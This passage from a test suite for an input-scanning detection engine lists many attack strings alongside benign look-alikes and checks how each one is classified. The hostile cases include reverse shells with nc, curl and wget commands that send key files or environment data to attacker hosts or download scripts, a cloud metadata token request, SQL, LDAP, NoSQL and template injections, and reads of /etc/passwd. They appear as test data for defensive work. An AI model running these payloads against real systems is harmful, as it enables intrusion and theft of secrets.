    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("http://attacker.example/shell.txt?", "path_traversal"),
        ("//evil.example/c99.txt%3F", "path_traversal"),
        ("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "path_traversal"),
        ('<!DOCTYPE t [<!ENTITY % i SYSTEM "data://text/plain;base64,ZmlsZTovLy9ldGM=">%i;]>',
         "xml"),
        ('{"name":"holiday_photo.phtml","type":"image/jpeg","size":20480}', "file_upload"),
        ("guest\n[2024-06-01T10:22:11Z] AUTH success user=admin ip=10.0.0.1", "crlf"),
        ("Hi team\r\n.\r\nMAIL FROM:<ceo@corp.example>\r\nRCPT TO:<victim@example.com>",
         "crlf"),
        ("jdoe+ou=Administrators", "ldap"),
        ("<saml:NameID>admin@corp.example<!---->.attacker.example</saml:NameID>", "xml"),
        ('{"name":"Bob","$set":{"isAdmin":true}}', "nosql"),
        ("%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%id) currentdevice "
         "putdevice", "file_upload"),
        ("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
         "file_upload"),
    ],
)
def test_inclusion_uploads_and_protocols_seen_in_unseen_sets(
    engine: DetectionEngine, value: str, named: str
) -> None:
    """Shapes two independent unseen sets of session 12 both held: a remote inclusion cut short,
    PHP's data:// stream (an XML entity's target is XXE), a script declared as an image, a
    forged log, SMTP commands, a multi-valued RDN, a comment splitting a signed address, a
    Mongo update operator, and PostScript or PDF that run code."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == named


@pytest.mark.parametrize(
    "value",
    [
        "https://shop.example.com/cart.php?",
        "H2+O=H2O",
        "jane@example<!-- no spam -->.com",
        "Hotfix\n[2024-05-03 14:22:10] rolled back release 4.2",
        "220 mx.example ESMTP\r\nMAIL FROM:<a@b.example>\r\n250 OK",
        '[{"name":"x.php","type":"text/plain"},{"name":"a.png","type":"image/png"}]',
        'db.products.updateOne({ sku: "abc123" }, { $set: { qty: 50 } })',
        "https://example.com/docs/page.html#section-2",
        '{"name":"report.pdf","type":"application/pdf"}',
        '<div v-if="show"><!----></div>',
    ],
)
def test_shell_code_links_and_metadata_that_look_alike(engine: DetectionEngine, value: str) -> None:
    assert not engine.detect(value)["is_threat"]


def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
    value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
             "the view.")
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ('import { Button } from "../../components/Button";', False),
        ('"extends": "../../tsconfig.base.json"', False),
        ("include ../../Makefile.common", True),
        ('@import "../../../../app/config/secrets";', True),
        ('<img src="../../img/logo.png">', False),
        ("../../components/Button", True),
        ("include ../../../../../../../x", True),
        ('from "..%2f..%2fx"', True),
        ('import x from "../../../../../../etc/passwd"', True),
    ],
)
def test_parent_steps_to_a_neighbouring_source_file(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A few plain ../ steps after an import, include, extends, src or href name a file beside
    the one being written; more steps, encoded steps, a sensitive target or steps alone still
    count."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("kubectl logs deploy/api --since=1h | grep -i error", False),
        ("cat access.log | cut -d' ' -f1 | sort | uniq -c | sort -rn | head", False),
        ("x | grep root /etc/passwd", True),
        ("| grep x", True),
        ("x || head", True),
        ("x | head; id", True),
        ("127.0.0.1 | tail -n 100 .env", True),
        ("127.0.0.1 | grep -r password", True),
        ("kubectl logs api | tr a-z A-Z | head -n 20", False),
    ],
)
def test_a_pipe_into_a_text_filter_runs_nothing_new(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A pipe from a command into grep, sort, head or wc narrows its output; a filter reading a
    file, a pipe that opens the value, or other shell syntax still count."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("Bind as cn=admin,dc=example,dc=com and search with the filter "
         "(&(objectClass=person)(mail=*@example.com)).", False),
        ("The LDAP filter (&(objectClass=person)(cn=John*)) finds people named John.", False),
        ("In MongoDB you'd write db.users.find({ age: { $gt: 18 } }) to get adults.", False),
        ('MongoDB queries like {"age": {"$gt": 18}} find adults.', False),
        ("*)(uid=*))(|(uid=*", True),
        ("admin)(&(uid=*)", True),
        ("(&(uid=*)(userPassword=*))", True),
        ("'; db.users.drop(); '", True),
        ("db.users.find()", True),
        ('{"age": {"$gt": 18}}', True),
    ],
)
def test_whole_filters_and_queries_quoted_in_a_sentence(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A sentence may quote a whole, balanced LDAP filter, a database-shell call or a query
    document; an injection closes the filter it lands in, breaks out of a string, or is the
    whole value."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("document.cookie returns all cookies not marked HttpOnly.", False),
        ("window.location tells you the current URL.", False),
        ("[ERROR] Failed to execute goal org.apache.maven.plugins:maven-compiler-plugin:3.11.0",
         False),
        ("The hosts file on Windows is at C:\\Windows\\System32\\drivers\\etc\\hosts.", False),
        ("rsync -avz --delete ./public/ deploy@web01:/var/www/site/", False),
        ("-1scriptdocument.cookie=true;/script", True),
        ("document.cookie", True),
        ("${T(org.apache.commons.io.IOUtils).toString(x)}", True),
        ("%{(@org.apache.struts2.ServletActionContext@getResponse())}", True),
        ("C:\\Windows\\System32\\drivers\\etc\\hosts", True),
        ("type C:\\Windows\\System32\\drivers\\etc\\hosts", True),
        ("x@y:/etc/passwd", True),
    ],
)
def test_names_in_text_and_targets_in_code(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A DOM sink, a Java package or a system path named in a sentence or a log line is text;
    reached from code, a call, a path argument or a parameter it counts."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        # A UNION stands even in a query that opens the value: IN (…) sinks take a whole query.
        ("WITH RECURSIVE tree AS (SELECT id, parent_id FROM categories WHERE parent_id IS NULL "
         "UNION ALL SELECT c.id, c.parent_id FROM categories c JOIN tree t ON c.parent_id = t.id)"
         " SELECT * FROM tree;", True),
        ("select 1 union select password from users", True),
        ("select id from products where (select count(*) from users)>0", True),
        ("select' <> 1 and '1'='1", True),
        ("select' order by 5,'", True),
        ("select distinct country from users order by country;", False),
        ("select * from t where id in (select id from u)", False),
        ("select 1 union select table_name from information_schema.tables", True),
        ("select 'a' union select password from users", True),
        ("1 union select 1,2", True),
        ("x' AND (SELECT password FROM users LIMIT 1)='a", True),
        ("select version();", True),
        ("select current_setting('data_directory');", True),
        ("(SELECT (CASE WHEN (6704=8190) THEN 8656 ELSE 1/0 END) FROM SYSMASTER:SYSDUAL)", True),
        ("select name from users where id = 1 or 1=1", True),
    ],
)
def test_a_whole_query_written_out_is_text(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A whole query that opens the value, its subqueries and UNIONs included, is a query written
    out; one that breaks out of a literal, reads the server or the catalog, or probes with
    CASE WHEN, a delay or OR is an injection."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    "value",
    [
        "2 < 3 and 5 > 4",
        "a^b^c",
        "I got 2^10 = 1024",
        "Trade union selection process for 2024",
        "From: bob@example.com\nTo: alice@example.com\nSubject: Re: invoice",
        "</p><p>Second paragraph</p>",
        "Use Invoke-Expression sparingly; it runs any string as code.",
        "The --upload-file option of curl sends a file with PUT.",
        "run tar with --to-command to pipe each file",
        "x = arr[i] + grid[j][k]",
        "server:\n  host: 0.0.0.0\n  port: 8080\nlogging:\n  level: INFO",
        "[INFO] Building jar\n[INFO] BUILD SUCCESS",
        "Title</title><link>https://example.org</link>",
        "Use MATCH (n:Person) RETURN n to list people",
    ],
)
def test_look_alikes_of_the_new_techniques_stay_clean(engine: DetectionEngine, value: str) -> None:
    """Arithmetic, algebra, a forwarded mail's headers, closing markup, options and PowerShell
    named in sentences, subscripts, YAML, a log pasted with real line breaks, a feed and Cypher
    in a sentence are not the probes and injections they resemble."""
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ('{"@context":"https://schema.org","@type":"Recipe","name":"Apple Crumble"}', False),
        ("'''Kilimanjaro''' is a volcano in [[Tanzania]].<ref>{{cite web |url=https://example.org/k"
         " |title=Kilimanjaro}}</ref>", False),
        ('<rss version="2.0"><channel><title>Blog</title><link>https://example.org/</link>'
         "</channel></rss>", False),
        ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5z"/>'
         "</svg>", False),
        ('{"shell":"/bin/bash","home":"/home/ana"}', False),
        ("WITH monthly AS (\n  SELECT date_trunc('month', created_at) AS m, count(*) AS n\n"
         "  FROM signups GROUP BY 1\n) SELECT * FROM monthly;", True),
        ("Bash: how do I loop over files with spaces in their names? `for f in $(ls *.txt)` splits"
         " them into pieces.", False),
        # A leading ">" is a redirection to a shell, which then runs the substitution.
        ("> `nc attacker.example 4444 -e sh` opens the tunnel for you", True),
        ('<svg x=">" onload=alert(1)><path d="M0"/></svg>', True),
        ("<link/rel=stylesheet href=//evil.example/x.css>", True),
        ("admin' && db.getCollectionNames().length > 0 && 'the rest of words", True),
        ('{@if cond="1"}x{/if}', True),
        ('<link rel="import" href="https://evil.example/x.html">', True),
        # The second review's findings.
        ("<img src=x onerror={alert/**/(1)}>", True),
        ("<img src=x onerror={alert?.(1)}>", True),
        ("<img src=x onerror={1}&Tab;alert&lpar;1&rpar;>", True),
        ("<img src=x onerror={1}\u00a0import(`//evil.example/x.js`)>", True),
        ('<link title=">" rel=stylesheet href=//evil.example/x.css>', True),
        ('<meta property="og:title" name="referrer" content="unsafe-url">', True),
        ("<meta data-name=description name=referrer content=unsafe-url>", True),
        ('{{ "a"|center:999999999 }} {{ x }}', True),
        ('{{ x | plus: "5" }}{{ y }}', True),
        ('{{ x|groupby("__class__") }}{{ y }}', True),
        # Rounding to a precision prints none of its digits (session 15); adding prints them.
        ("{{ x|round(2) }}{{ y }}", False),
        ("{{ x|add:733 }}{{ y }}", True),
        ("{{ x|round(2, 999999) }}{{ y }}", True),
        ("SELECT name FROM users WHERE name = 'a' OR -1=-1", True),
        ("query [DELETE FROM users WHERE id > 0]", True),
        ("<svg onload=alert(1)>", True),
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', True),
        ("<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", True),
        ("x';/bin/bash -c id'", True),
        ("1 -- x\nDROP TABLE users", True),
        ("(select top 1 password from users)", True),
        ("x;$(whoami)", True),
    ],
)
def test_documents_and_markup_that_only_look_active(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """JSON-LD, wiki templates, feed links, icon SVGs, a shell path as a setting's value, a CTE
    written out, and code spans in a question or a Markdown quotation are data or text; the
    handlers, scripts, imports, breakouts and substitutions they resemble still count."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("{% for item in cart.items %}\n  {{ item.title }} x {{ item.quantity }}\n{% endfor %}",
         False),
        ("{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}",
         False),
        ('<div v-for="todo in todos" :key="todo.id">{{ todo.text }}</div>', False),
        ('<span [class.active]="isActive">{{ title | uppercase }}</span>', False),
        ('Hi {{ customer.first_name | default: "there" }}, your order {{ order.number }} ships.',
         False),
        ("FROM node:20-alpine\nWORKDIR /src\nCOPY package*.json ./\nRUN npm ci\nCOPY . .",
         False),
        ("vm.max_map_count=262144\nnet.core.somaxconn=1024", False),
        ("steps:\n  - run: go test ./...", False),
        ('std::cout << "Value: " << x << std::endl;', False),
        ("/var/log/nginx/error.log is empty but the site returns 502", False),
        ("bad SQL grammar [select id, name from customer where region = ?]", False),
        # Computing, reaching code or breaking out still counts.
        ("ih0vr{{364|add:733}}d121r", True),
        ("{{ item.title }}{{ config.items() }}", True),
        ('<div v-if="x">{{ constructor.constructor("alert(1)")() }}</div>', True),
        ("x\nnet.exe user hacker P4ss /add", True),
        ("/etc/passwd", True),
        ("/etc/passwd; cat it now please ok", True),
        ("C:\\Program Files\\Apache Software Foundation\\Apache2.2\\conf\\httpd.conf", True),
        ("1 [select password from users]", True),
        ("<x onclick=alert(1)>", True),
        ("/.../.../etc/passwd", True),
        ("SELECT COALESCE(nickname, 'Anonymous') AS display_name FROM members;", False),
        ("SELECT TOP 10 * FROM dbo.Customers ORDER BY CreatedDate DESC", False),
        ("SELECT id FROM articles WHERE title ILIKE '%flu%' OR body ILIKE '%flu%';", False),
        ("SELECT student_id, CASE WHEN score >= 90 THEN 'A' ELSE 'B' END FROM grades", False),
        ("SELECT customer_id FROM orders GROUP BY customer_id HAVING COUNT(*) > 5", False),
        ("{{ 'now'|date('Y-m-d H:i') }} prints UTC. How do I change the time zone?", False),
        ('<x-alert type="error" :message="$message" class="mb-4" />', False),
        # Encoded breaks, a value before the break, constant probes and computing tags count.
        ("HTTP/1.1 200 OK%0d%0aSet-Cookie: admin=1", True),
        ("x\nSet-Cookie: admin=1", True),
        ("select name from users where id = 1 or 1=1", True),
        ("select name from users having 1=1", True),
        ("SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END FROM users", True),
        ("{{ order.total | currency:'EUR':'symbol' }}{{ 7*7 }}", True),
        ("int main(void) {\n    FILE *fp = fopen(path, \"r\");\n}", False),
        ('<meta name="viewport" content="width=device-width, initial-scale=1">', False),
        ("ls -l\nLast login: Mon Jan  8 09:12 on ttys000", False),
        (";id", True),
        ("|Whoami", True),
        ("Content-Length: 0\n\n<html>x</html>", True),
        ("x%0a%0a<html>", True),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', True),
        ('<meta charset="x-imap4-modified-utf7">&ADz&AGn', True),
        ("<style>#x{font-family:foo[bar;color:green;}#y];color:red;{}</style>", True),
        ('<style>@import "http://evil.example/x.css";</style>', True),
        ("<%= link_to 'Edit', edit_article_path(@article) %> | <%= link_to 'Back', items_path %>",
         False),
        ("{% macro input(name, value='', type='text') -%}\n<input name=\"{{ name }}\""
         " value=\"{{ value|e }}\">\n{%- endmacro %}", False),
        ("{{ route('admin.dashboard') }} {{ route('home') }}", False),
        ("{% for x in items %}{{ x.name }}{% endfor %}{{ range(99999999) }}", True),
        ("{{ x.name }}{{ getattr(x, 'y') }}", True),
        ("{{ x }}{{ 'a'.upper() }}", True),
        ("<%= link_to 'x', y %><%= open('/etc/passwd').read %>", True),
        ('<script type="application/ld+json">{"@context": "https://schema.org", "name": "Shoe"}'
         "</script>", False),
        ('db.orders.find({ status: { $in: ["shipped"] } }).sort({ createdAt: -1 }).limit(20)',
         False),
        ('<script type="application/ld+json">{"a":"</script><script>alert(1)</script>"}</script>',
         True),
        ('<script type="application/json">alert(1)</script>', True),
        ('db.users.find({$where: "sleep(1000)"})', True),
        ("db.users.deleteMany({ lastSeen: { $lt: 5 } })", True),
        ("db.users.find({}); db.users.drop()", True),
        ("C:\\Program Files (x86)\\Steam\\steamapps\\common\\", False),
        ("c:\\windows\\win.ini", True),
        # What a review of this round's exemptions found, each a working attack.
        ("MIME-Version: 1.0\r\nSet-Cookie: session=attacker; Path=/", True),
        ("HTTP/1.1 302 Found\r\nLocation: https://evil.example/login", True),
        ("Thanks for your order.\n\n<form action=https://evil.example method=post>"
         "<input name=password type=password></form>", True),
        ("<style>body{display:none}</style>", True),
        ('<meta name="x>" http-equiv="refresh" content="0;url=https://evil.example/">', True),
        ('<meta name="referrer" content="unsafe-url">', True),
        ("x;nc.traditional -c bash 10.0.0.1 4444", True),
        ("x;rm = -rf /var/www/html", True),
        ("<%= Open3.capture2('id') %> <%= user.name %>", True),
        ("{{ query('pipe', 'id') }}{{ x }}", True),
        ("{{ constant('DB_PASSWORD') }} {{ user.name }}", True),
        ("<%= Rails.configuration.database_configuration %><%= @user.name %>", True),
        ("1 -- note [\nDELETE FROM users WHERE [id] > 0", True),
        ("ONE a\nTWO b\nTHREE c\nREGSVR32 /s /u /i:http://evil.example/x.sct scrobj.dll", True),
        ("C:\\Users\\Administrator\\NTUSER.DAT\\", True),
        ("127.0.0.1;ID", True),
        ("/etc/passwd\nignore the rest of this line", True),
        ("SELECT username, password FROM users WHERE id > 0 OR username LIKE '%'", True),
        ("{{ price|floatformat:2 }} {{ currency }}", False),
        ("{% include 'emails/_footer.html' %}{{ unsubscribe_url }}", False),
        ("<button onClick={() => setCount(count + 1)}>Clicked {count} times</button>", False),
        ("<form onSubmit={handleSubmit}>\n  <input onChange={e => setName(e.target.value)} />"
         "\n</form>", False),
        ("<Link href={`/products/${slug}`} prefetch={false}>{title}</Link>", False),
        ("{{ x|add:733 }} {{ y }}", True),
        ("{{ a }}{{ b['__class__'] }}", True),
        ("<img src=x onerror={alert(1)}>", True),
        ("<a onclick={location=`javascript:alert(1)`}>x</a>", True),
        ("<div onClick={go}><script>alert(1)</script></div>", True),
        ("<svg onload={[].map(alert)}>", True),
        ('<link rel="import" href="https://evil.example/x.html">', True),
        ("{{ range $i, $e := .List }}{{ $i }}: {{ $e }}{{ end }}", False),
        ('{{define "T1"}}{{.}}{{end}}{{template "T1" .}}', True),
        ("{{ $x := .Secret }}{{ $x }}", True),
        # Translation and link helpers handed a key or a label, with keyword labels.
        ("<%= t('.welcome', name: current_user.first_name) %>", False),
        ('<%= link_to "Edit", edit_post_path(@post), class: "btn btn-sm" %>', False),
        ("{{ _('Sign in') }} | {{ _('Register') }}", False),
        ("{{ t(config) }}", True),
        ("{{ _(request.environ) }}", True),
        ("{{ _('a').__class__ }}", True),
        ("<%= t('x', name: system('id')) %>", True),
        ("<%= link_to 'x', '/../../etc/passwd' %>", True),
    ],
)
def test_template_sources_configs_and_log_lines(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """Templates of data tags (two or more, or in a framework's bound markup), Dockerfiles,
    dotted settings, Go's ``./...``, C++ streams, a path as a sentence's subject, a query a log
    line shows in brackets, report queries (functions, TOP, OR/HAVING/CASE on columns),
    Unix-only commands in capitals on a new line, a page head's meta tags, view helpers called
    with names and literals, formatting filters, JSX handlers, a link with no rel, JSON data
    blocks and database-shell reads are text; arithmetic,
    builtins, other calls, methods of literals or code in a tag, an executable, a bare
    sensitive path, a query after a number or a comment, real or encoded breaks before a
    header, style blocks, redirects, odd charsets and LIKE '%' still count."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        # Template source the model learned from generated pages (session 14).
        ('<p th:text="#{orders.heading(${order.number})}">Orders</p>', False),
        ("{% include 'partials/_sidebar.html' with links=nav_links %}", False),
        ('{% extends "layouts/base.html" %}{% block title %}Orders{% endblock %}', False),
        ('<spring:message code="orders.empty" arguments="${customer.firstName}" />', False),
        ("{{ .Values.image.repository }}:{{ .Values.image.tag }}", False),
        # Object literals, FreeMarker and Velocity directives, Thymeleaf's utility objects,
        # Helm's named templates and date formats are read as tags too.
        ("{{ $t('orders.count', { n: orders.length }) }}", False),
        ("<#list invoices as inv>${inv.number}<#sep>; </#list>", False),
        ("<#if buyer??>Hi ${buyer.name}<#else>Hi there</#if>", False),
        ("#foreach( $row in $rows )$row.label#end", False),
        ("#set($sum = $net + $tax) Sum: $sum", False),
        ("<td th:text=\"${#temporals.format(invoice.issuedAt, 'yyyy-MM-dd')}\">date</td>", False),
        ('{{- include "shop.selectorLabels" . | nindent 6 }}', False),
        ("{{ invoice.issued_at|date('m/d/Y') }}", False),
        # Control flow in ERB and EJS, Go's blocks, messages with punctuation, Liquid's named
        # numbers.
        ("<% @invoices.each do |inv| %>\n  <li><%= inv.number %></li>\n<% end %>", False),
        ("<% if (buyer) { %><b><%= buyer.name %></b><% } else { %>guest<% } %>", False),
        ("<% unless @basket.empty? %>Items: <%= @basket.count %><% end %>", False),
        ("{{- with .Values.probes }}\nprobes:\n  {{- toYaml . | nindent 2 }}\n{{- end }}", False),
        ("{{ range $name, $port := .Values.ports }}{{ $name }}: {{ $port }}{{ end }}", False),
        ('<p>{{ _("Need help? Call us (9-5) at %(phone)s.", phone=shop.phone) }}</p>', False),
        ("{% for p in site.posts limit:3 %}<li>{{ p.title }}</li>{% endfor %}", False),
        # The same syntax reaching code, secrets or the whole data object.
        ("{{.}}", True),
        ("Name: {{ . }}", True),
        ("{{ messages.storages.0.signer.key }}", True),
        ("{{ user.password }}", True),
        ('Dear #{ENV["SECRET_KEY_BASE"]}, thanks for the order', True),
        ("Our release notes mention {{ settings.SECRET_KEY }} by mistake", True),
        ("<p>{{ order.total }}</p>{{ app.secret_key }}", True),
        ("{{ $t('x', { a: config }) }}", True),
        ("{{ 'x'|date('/etc/passwd') }}", True),
        ('{{ include "/etc/passwd" . }}', True),
        ("<#list .data_model?keys as k>${k}</#list>", True),
        ("<#if user??>${user.name}</#if><#assign x = user?api>", True),
        ('<#list users as u>${u.name}</#list>${"x"?interpret}', True),
        ("#set($x = 7*7)$x", True),
        ('#if($a == $b)x#end$rt.getRuntime().exec("id")', True),
        ('<p th:text="${#strings.toString(@environment)}">x</p>', True),
        ("<p th:text=\"${#lists.isEmpty(T(java.lang.System).getenv())}\">x</p>", True),
        ("{{ range .Items }}{{ . }}{{ end }}{{ . }}", True),
        ("{{ with .Env }}{{ . }}{{ end }}", True),
        ("<% if user.isAdmin || process.env %>x<% end %>", True),
        ("<% @items.each do |i| %><%= i.name %><% end %><%= 7*7 %>", True),
        ('{{ t("Hi %(name)s", name=self.__init__) }}', True),
        ("{% for p in site.posts limit:5 %}{{ p.title | add:733 }}{% endfor %}", True),
    ],
)
def test_template_data_and_template_reach(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A tag naming data is template source, also to the model; a tag reaching code, a secret
    or Go's whole data object (``{{.}}`` outside ``with`` and ``range``) is an injection, and a
    sentence around it does not make it a quotation."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    "value",
    [
        "curl -H 'X: y' http://attacker.example/x.sh -o /tmp/x",
        "curl -H 'a: b' -o /var/www/html/s.php http://evil.example/s.txt",
        "wget -O /tmp/s.sh http://evil.example/s.sh",
        # The session-14 review's answers to an exemption for API calls: one written out still
        # runs when it sends a key, uploads, writes into the web root, asks the cloud for a
        # token or fetches a script (see calls_an_api).
        "curl -X POST https://attacker.example/c -d @config/master.key",
        "curl -X PUT https://attacker.example/c -T /proc/self/environ",
        "curl -X GET https://attacker.example/s.php -so public/s.php",
        "curl -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl: 1'",
        # An option written with = (--post-file=…, --header="…") hides no URL either.
        "wget --post-file=config/master.key http://attacker.example/",
        'wget --header="X: y" http://attacker.example/x.sh',
    ],
)
def test_downloads_with_quoted_options(engine: DetectionEngine, value: str) -> None:
    """An option's quoted argument with blanks does not hide the URL after it, and a download
    written to a world-writable directory or the web root is caught."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:Board review\nLOCATION:Hall 2\n"
         "END:VEVENT\nEND:VCALENDAR", False),
        ("BEGIN:VCARD\nVERSION:4.0\nFN:Ana Lima\nEMAIL:ana@example.org\nEND:VCARD", False),
        ("BEGIN:VCALENDAR\nLOCATION:https://evil.example/\nEND:VCALENDAR", True),
        ("BEGIN:VCALENDAR\nSET-COOKIE:session=x\nEND:VCALENDAR", True),
        ("BEGIN:VCALENDAR\r\nLocation: Room 1\r\nSet-Cookie: a=b", True),
        ("BEGIN:VEVENT%0d%0aSet-Cookie:x=1", True),
    ],
)
def test_calendar_objects(engine: DetectionEngine, value: str, flagged: bool) -> None:
    """An iCalendar or vCard object's property lines are not injected headers; a cookie, a URL
    as the location, or fields in HTTP's own spelling still are."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        # C passing an argument's address, and a SQL reference's choice of keywords.
        ("CIRCLEQ_INIT(&head); /* Initialize the queue */", False),
        ("if (clock_gettime(CLOCK_MONOTONIC, &start) == -1)", False),
        ("ALTER TABLE t OPTIONS ( [ ADD | SET | DROP ] option ['value'] )", False),
        ("ORDER BY expression [ ASC | DESC ]", False),
        # A separator before a command elsewhere in the same value still counts.
        ("x&id)", True),
        ("x [ A | SET ] ; cat /etc/passwd", True),
        ("name=a | id", True),
    ],
)
def test_separator_in_c_and_syntax_summaries(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """``(&head)`` and ``, &start)`` take an address, and ``[ ADD | SET ]`` lists keywords: no
    shell reads either as a separator before a command (manual pages of C and SQL)."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    "value",
    [
        # F1: a call after ||, ?? or a ternary's ? is no filter, and only a translation call's
        # message has its words ignored.
        '<%= nil || open("|touch pwned").read %><%= x %>',
        'Dear team <%= 1.zero? open("|curl attacker.example -o p") %> today',
        "<%- 0 || Function(\"return process['main'+'Module']\")() %><%= x %>",
        '{{ null ?? getenv("APP_KEY") }}{{ x }}',
        'Your file {{ null ?? highlight_file(".env") }} keep it safe',
        '{{ 1 ?constant("DB_PASSWORD") }}{{ x }}',
        '{{ users|groupby("password") }}{{ x }}',
        # F3: a calendar line in HTTP's meaning.
        "BEGIN:VCALENDAR\r\nCONTENT-TYPE: text/html\r\nEND:VCALENDAR",
        "BEGIN:VCALENDAR\r\nHOST: 169.254.169.254\r\nEND:VCALENDAR",
        "BEGIN:VCALENDAR\nLOCATION: https:attacker.example\nEND:VCALENDAR",
        # F4: a layout statement naming code.
        "Welcome {% set x = config %}{{ x }} to the site",
        "Hi {% for k in config %}{{ k }}{% endfor %} there",
        '{{ {"a": config} }}{{ x }}',
        # F5: a loop that never ends.
        "<% while (1) { %><% } %>",
        # F7: Go blocks: a call on the dot, a secret's block, a method with an argument.
        "{{ with .User }}{{ call . }}{{ end }}",
        "{{ with .Secrets }}{{ . }}{{ end }}",
        'Hi {{ with .Files }}{{ .Get "secrets.yaml" }}{{ end }} bye team',
        # F8: Thymeleaf's conversions build objects.
        "Hello <p th:text=\"${#conversions.convert('http://a.example/x.xml','org.springframework"
        ".context.support.ClassPathXmlApplicationContext')}\">x</p>",
        # F9: & after a comma that opens no call's argument.
        "127.0.0.1,&ipconfig)",
        "127.0.0.1 >(a,&sh)",
        "Hi <% instance_variables.each do |v| %><%= v %><% end %> team",
        # Go printing the whole data object through printf, in a sentence.
        'Dear customer, your profile: {{ printf "%+v" . }} thanks',
    ],
)
def test_review_of_session_14_exemptions(engine: DetectionEngine, value: str) -> None:
    """The session-14 review's payloads against that session's template, calendar and C
    exemptions: each got through once, and each is an injection."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("fragment", "view", "stands"),
    [
        ("{{.}}", "{{.}}", True),
        ("{{ . }}", '{{define "T"}}{{ . }}{{end}}', True),
        ("{{ . }}", "{{ with .Params.author }}By {{ . }}{{ end }}", False),
        ("{{.}}", "{{- range .Items }}{{.}}{{- end }}", False),
    ],
)
def test_dot_outside_block(fragment: str, view: str, stands: bool) -> None:
    assert confirm.dot_outside_block(fragment, view) is stands


@pytest.mark.parametrize(
    ("fragment", "reaches"),
    [
        ("#{Kernel.send :system, 'id'}", True),
        ("{{ request.environ }}", True),
        ("{{ post.__class__ }}", True),
        ("{{ user.name|e }}", False),
        ("{{ __html: body }}", False),
        ("{{ t('config') }}", False),
    ],
)
def test_template_reaches_code(fragment: str, reaches: bool) -> None:
    assert confirm.template_reaches_code(fragment) is reaches


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("cd /usr/include; h2ph * sys/* arpa/* netinet/*", False),
        ("or 1=1/*", True),
        ("admin'/*", True),
    ],
)
def test_a_trailing_glob_is_not_a_comment(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """The model's trailing-comment feature reads ``/*`` straight after a name as a glob, and
    after a value or a quote as a comment that cuts off the rest of the query."""
    assert engine.detect(value)["is_threat"] is flagged


def test_prefers_hyperscan_when_installed(engine: DetectionEngine) -> None:
    assert engine.engine_name == ("hyperscan" if HYPERSCAN_AVAILABLE else "re2")


def test_result_shape(engine: DetectionEngine) -> None:
    result = engine.detect("<script>alert(1)</script>", "10.1.1.1", "query_param", "cid-1")
    assert result["is_threat"] and result["correlation_id"] == "cid-1"
    regex_threats = [t for t in result["threats"] if t["type"] == "regex"]
    assert regex_threats and all("pattern" in t and t["class"] == "xss" for t in regex_threats)
    assert all(len(t["fragment"]) <= 120 for t in result["threats"])
    # Conclusive rules spare the model; a value the rules miss shows its verdict.
    assert not [t for t in result["threats"] if t["type"] == "semantic"]
    model_only = engine.detect('1")) rlike sleep(5)#')
    semantic = [t for t in model_only["threats"] if t["type"] == "semantic"]
    assert semantic and 0.7 <= semantic[0]["probability"] <= 1.0
    assert semantic[0]["attack_type"] == "sqli" and model_only["attack_class"] == "sqli"


def test_bytes_and_odd_types_never_raise(engine: DetectionEngine) -> None:
    assert engine.detect(b"\xff\xfe<script>alert(1)</script>")["is_threat"]
    assert not engine.detect(None)["is_threat"]
    assert not engine.detect(12345)["is_threat"]
    assert not engine.detect("\ud800 lone surrogate")["is_threat"]


def test_linear_custom_pattern_joins_database() -> None:
    engine = DetectionEngine()
    version = engine.pattern_version
    entry = engine.add_pattern(r"forbidden-\d+", custom=True)
    assert entry.linear and engine.pattern_version == version + 1
    assert r"forbidden-\d+" in engine.get_custom_patterns()
    result = engine.detect("value forbidden-42")
